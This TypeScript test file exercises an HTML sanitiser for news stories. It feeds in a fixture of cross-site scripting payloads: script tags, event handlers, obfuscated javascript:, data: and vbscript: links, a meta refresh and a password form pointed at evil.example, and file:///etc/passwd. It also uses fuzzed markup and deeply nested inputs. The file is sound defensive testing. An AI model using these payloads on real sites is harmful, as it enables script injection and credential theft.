import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Block } from '#contract/story.ts';
import { bodyBlocks } from '#server/stories/body/body.ts';
import { spansOf, textOf } from '#server/stories/body/textOf.ts';
import { linkHref } from '#server/stories/values/links.ts';
import { hrefsIn } from '#tests/support/hrefsIn.ts';

const page = 'https://station.example/2026/crest';
const blocks = (html: string) => bodyBlocks(html, page);
const paragraph = (...spans: unknown[]) => ({ kind: 'paragraph', spans });
const words = (body: readonly Block[]) => JSON.stringify(body);
const SAFE = /^(https?:\/\/|mailto:|tel:)/i;

const HOSTILE = `
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>p { background: url(javascript:alert(1)) }</style>
<p onclick="alert(1)" style="width: expression(alert(1))">The first words.</p>
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>x()</scr</script>ipt>
<p>A <a href="java&#9;script:alert(1)">tab</a>, a <a href=" &#1;javascript:alert(1)">control</a>,
<a href="JaVaScRiPt&colon;alert(1)">an entity</a>, <a href="data:text/html,<script>alert(1)</script>">data</a>,
<a href="vbscript:x">an old one</a>, <a href="\\\\evil.example\\x" onmouseover=alert(1)>slashes</a>, <a href="/story" ping="https://evil.example">our own</a>.</p>
<img src=x onerror=alert(1)><img src="javascript:alert(1)"><img srcset="data:image/svg+xml,<svg onload=alert(1)> 2x">
<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>not words</text></a></svg>
<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="https://maps.example/x"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>
<video src="javascript:alert(1)"><source src="data:video/mp4,x"></video><audio src="file:///etc/passwd"></audio>
<template><p>not words</p></template><noscript><img src="https://evil.example/x.gif"></noscript>
<table background="javascript:alert(1)"><tr><td onclick=alert(1)>Cell <td>two</table>
<p>The last words.</p>`;

describe('a hostile story', () => {
  const body = blocks(HOSTILE);

  it('shows its words', () => {
    const text = textOf(HOSTILE);
    for (const part of [
      'The first words.',
      'an entity',
      'slashes',
      'Cell two',
      'The last words.',
    ]) {
      expect(text).toContain(part);
    }
    expect(words(body)).toContain('The last words.');
  });

  it('holds nothing that runs, submits, refreshes or restyles', () => {
    expect(words(body)).not.toMatch(
      /javascript|vbscript|data:|onerror|onload|expression|swf|not words|password/i,
    );
  });

  it('links only to pages, and loads nothing of the frame that it keeps as a link', () => {
    expect(hrefsIn(body)).toEqual([
      'https://evil.example/x',
      'https://station.example/story',
      'https://station.example/2026/x',
      'https://maps.example/x',
    ]);
  });
});

describe('what could run', () => {
  it.each([
    ['a script', '<p>Safe.</p><script>alert(1)</script>'],
    ['a script inside a paragraph', '<p>Safe.<script>alert(1)</script></p>'],
    ['a script that is closed as XML', '<script src="x"/><p>Safe.</p>'],
    ['a script with a prefix', '<svg:script>alert(1)</svg:script><p>Safe.</p>'],
    ['an event handler', '<p onclick="alert(1)">Safe.</p>'],
    ['a comment', '<!-- <p>x</p> --><p>Safe.</p>'],
    ['what is hidden', '<p hidden>x</p><p style="display : none">x</p><p>Safe.</p>'],
  ])('leaves out %s', (_, html) => {
    expect(blocks(html)).toEqual([paragraph({ text: 'Safe.' })]);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript\r:alert(1)',
    '\u0001javascript:alert(1)',
    '\u200bjavascript:alert(1)',
    'javascript&#58;alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a.example/x',
    'view-source:https://a.example',
    'http://',
  ])('keeps the words of a link to %j, without the link', (href) => {
    expect(blocks(`<p><a href="${href}">Safe.</a></p>`)).toEqual([paragraph({ text: 'Safe.' })]);
  });

  it.each(['//evil.example', '/\\evil.example', '/.//evil.example', '\\/evil.example'])(
    'never takes %j for a page of our own',
    (href) => {
      expect(linkHref(href, '')).toBeNull();
    },
  );
});

describe('whatever the input', () => {
  const tag = fc.constantFrom(
    ...'p div span b em a ul ol li table tr td th h1 h3 blockquote figure figcaption img iframe audio video pre br hr script style svg q cite'.split(
      ' ',
    ),
  );
  const attribute = fc.tuple(
    fc.constantFrom(
      'href',
      'src',
      'srcset',
      'data-src',
      'style',
      'class',
      'width',
      'start',
      'colspan',
      'title',
      'alt',
    ),
    fc.oneof(
      fc.string(),
      fc.webUrl(),
      fc.constantFrom(
        'javascript:alert(1)',
        '\tjava\nscript:x',
        'data:,x',
        '//x.example/a',
        '/a',
        'a b',
        '1',
        '900',
        'gallery',
        'wp-caption',
      ),
    ),
  );
  const piece = fc.oneof(
    fc.string(),
    fc
      .tuple(tag, fc.array(attribute, { maxLength: 3 }))
      .map(
        ([name, attributes]) =>
          `<${name} ${attributes.map(([key, value]) => `${key}="${value}"`).join(' ')}>`,
      ),
    tag.map((name) => `</${name}>`),
  );
  const markup = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));

  it('makes blocks and never throws, and lets no address through but pages, mail and telephones', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), markup), (html) => {
        const made = [bodyBlocks(html, page), spansOf(html, page), bodyBlocks(html, 'no address')];
        expect(hrefsIn(made).filter((href) => !SAFE.test(href))).toEqual([]);
        expect(JSON.parse(JSON.stringify(made))).toEqual(made);
        textOf(html);
      }),
      { numRuns: 300 },
    );
  }, 60_000);

  it.each([
    ['open elements', '<div><b>'.repeat(15_000)],
    ['lists', '<ul><li>'.repeat(15_000)],
    ['tables', '<table><tr><td>'.repeat(15_000)],
    ['quotations', '<blockquote>'.repeat(15_000)],
    ['closing tags that never opened', `${'<b>'.repeat(15_000)}${'</i>'.repeat(15_000)}`],
    ['figures', '<figure class="gallery">'.repeat(15_000)],
  ])(
    'bounds %s, fifteen thousand deep, and keeps the words',
    (_, deep) => {
      expect(textOf(`${deep}words`)).toBe('words');
      expect(words(blocks(`${deep}words`))).toContain('words');
    },
    60_000,
  );

  it('bounds a story without an end', () => {
    expect(blocks('<p>x</p>'.repeat(400_000)).length).toBeLessThanOrEqual(5000);
  }, 60_000);
});
